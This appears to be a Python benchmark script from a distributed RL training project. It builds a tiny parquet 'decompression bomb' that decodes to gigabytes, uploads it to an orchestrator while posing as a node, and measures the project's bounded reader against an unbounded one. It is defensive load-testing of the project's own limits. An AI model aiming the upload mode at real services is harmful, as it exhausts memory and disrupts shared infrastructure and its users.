"""The upload bomb, as an outsider runs it: a few-kilobyte zstd parquet rollout file whose rows are each of
legal shape (32,768 prompt and completion tokens, a logprob per token) and decode to gigabytes.

    python benchmarks/attacks/bomb.py --out bomb.parquet                      # build it (2 GiB decoded)
    python benchmarks/attacks/bomb.py --orchestrator URL --key node.pem      # join and upload it, like any node
    python benchmarks/attacks/bomb.py --measure                              # what reading it costs, one JSON line

``--measure`` builds the bomb, then reads it in two fresh processes and reports each one's peak RSS: the
bounded reader (``read_rollouts`` under the orchestrator's default limits, what its upload path runs) and
the old unbounded path (``pyarrow.parquet.read_table`` then ``to_pylist``), the latter under an RLIMIT_AS cap
(``--rlimit-mb``) so the machine survives; a process that dies of the cap is reported "refused by rlimit".
"""

from __future__ import annotations

import argparse
import json
import os
import subprocess
import sys
import tempfile
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT))

import pyarrow.parquet as pq  # noqa: E402

from swarmrl.attacks.bomb import write_bomb  # noqa: E402
from swarmrl.rollouts.wire import metadata_decoded_bytes  # noqa: E402

# each child prints one JSON line with its peak RSS (VmHWM: this process image only, not the parent it forked
# from); a child that died without printing is measured by wait4 (ru_maxrss, which includes the fork's RSS)
HWM = "int([l for l in open('/proc/self/status') if l.startswith('VmHWM:')][0].split()[1]) / 1024"
BOUNDED = """
import json, sys
from swarmrl.protocol.config import OrchestratorConfig
from swarmrl.rollouts.wire import RolloutError, RolloutTooLarge, read_rollouts
try:
    rows = read_rollouts(sys.argv[1], OrchestratorConfig().rollout_limits)
    out = {"result": f"accepted: {len(rows)} rows"}
except RolloutError as e:
    status = 413 if isinstance(e, RolloutTooLarge) else 422
    out = {"result": f"refused ({status}): {e}", "limit": getattr(e, "limit", None)}
out["peak_rss_mb"] = round(%s, 1)
print(json.dumps(out))
""" % HWM

UNBOUNDED = """
import json, resource, sys
cap = int(sys.argv[2]) << 20
resource.setrlimit(resource.RLIMIT_AS, (cap, cap))
import pyarrow.parquet as pq
try:
    rows = pq.read_table(sys.argv[1]).to_pylist()
    out = {"result": f"read: {len(rows)} rows"}
except MemoryError as e:  # pyarrow's ArrowMemoryError is one too
    out = {"result": "refused by rlimit", "error": f"{type(e).__name__}: {e}"[:200]}
out["peak_rss_mb"] = round(%s, 1)
print(json.dumps(out))
""" % HWM


def run_child(code: str, *args: str) -> dict:
    """Run ``code`` in a fresh interpreter: its JSON line (with its peak RSS in MB) and wall time."""
    env = dict(os.environ, PYTHONPATH=os.pathsep.join(p for p in (str(ROOT), os.environ.get("PYTHONPATH")) if p))
    t0 = time.perf_counter()
    with tempfile.TemporaryFile() as err:
        p = subprocess.Popen([sys.executable, "-c", code, *args], stdout=subprocess.PIPE, stderr=err, env=env)
        out = p.stdout.read()
        p.stdout.close()
        _, status, usage = os.wait4(p.pid, 0)
        p.returncode = os.waitstatus_to_exitcode(status)  # reaped here: tell Popen
        err.seek(0)
        tail = err.read()[-300:].decode(errors="replace")
    lines = out.decode().strip().splitlines()
    res = json.loads(lines[-1]) if lines else {"result": "refused by rlimit (process died)",
                                                "returncode": p.returncode, "stderr": tail}
    res["wall_s"] = round(time.perf_counter() - t0, 2)
    res.setdefault("peak_rss_mb", round(usage.ru_maxrss / 1024, 1))  # ru_maxrss is in KiB on Linux
    return res


def measure(decoded: int, rlimit_mb: int) -> dict:
    with tempfile.TemporaryDirectory() as d:
        path = Path(d) / "bomb.parquet"
        t0 = time.perf_counter()
        write_bomb(path, decoded)
        build_s = time.perf_counter() - t0
        md = pq.ParquetFile(path).metadata
        return {"file_bytes": path.stat().st_size, "decoded_bytes": metadata_decoded_bytes(md), "rows": md.num_rows,
                "build_s": round(build_s, 2), "bounded": run_child(BOUNDED, str(path)),
                "unbounded": run_child(UNBOUNDED, str(path), str(rlimit_mb)), "rlimit_mb": rlimit_mb}


def attack(url: str, key: str, decoded: int, stake: float, wait_s: float) -> dict:
    """Join the swarm like any node, take the first assignment and answer it with the bomb."""
    from swarmrl.protocol.client import ApiError, NodeClient
    from swarmrl.utils.keys import generate_key, save_private_key

    if not Path(key).exists():
        save_private_key(generate_key(), key)
    c = NodeClient(url, key)
    try:
        c.register(throughput=100.0, stake=stake)
    except ApiError as e:
        if e.status != 409:  # 409: already registered with this key
            raise
    deadline = time.monotonic() + wait_s
    while not (assignments := c.heartbeat().assignments):
        if time.monotonic() > deadline:
            return {"node_id": c.node_id, "result": "no assignment"}
        time.sleep(1.0)
    a = assignments[0]
    with tempfile.TemporaryDirectory() as d:
        path = write_bomb(Path(d) / "bomb.parquet", decoded, worker_id=c.node_id, step=a.step,
                          policy_version=a.policy_version, seed=a.seed, env=a.contract.task.name,
                          task_ids=[t.task_id for t in a.tasks] or ["t0"], group_size=a.contract.group_size,
                          group_prefix=str(a.assignment_id))
        out = {"node_id": c.node_id, "assignment_id": a.assignment_id, "file_bytes": path.stat().st_size,
               "decoded_bytes": metadata_decoded_bytes(pq.ParquetFile(path).metadata)}
        try:
            rep = c.submit(a.assignment_id, path)
            out.update(result="accepted", submission_id=rep.submission_id)
        except ApiError as e:
            out.update(result="refused", status=e.status, detail=e.detail)
    return out


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--decoded-bytes", type=int, default=2 << 30, help="what the file decodes to (default 2 GiB)")
    ap.add_argument("--out", help="write the bomb here and stop")
    ap.add_argument("--orchestrator", help="orchestrator URL to upload the bomb to")
    ap.add_argument("--key", help="the node's Ed25519 PEM key (made when missing)")
    ap.add_argument("--stake", type=float, default=100.0)
    ap.add_argument("--wait-s", type=float, default=60.0, help="how long to wait for an assignment")
    ap.add_argument("--measure", action="store_true", help="peak RSS of reading it, bounded vs. unbounded")
    ap.add_argument("--rlimit-mb", type=int, default=4096, help="address-space cap of the unbounded reader")
    a = ap.parse_args()
    if a.measure:
        print(json.dumps(measure(a.decoded_bytes, a.rlimit_mb)))
    elif a.orchestrator:
        if not a.key:
            ap.error("--orchestrator needs --key")
        print(json.dumps(attack(a.orchestrator, a.key, a.decoded_bytes, a.stake, a.wait_s)))
    elif a.out:
        path = write_bomb(a.out, a.decoded_bytes)
        print(json.dumps({"path": str(path), "file_bytes": path.stat().st_size,
                          "decoded_bytes": metadata_decoded_bytes(pq.ParquetFile(path).metadata)}))
    else:
        ap.error("give --out, --orchestrator or --measure")


if __name__ == "__main__":
    main()
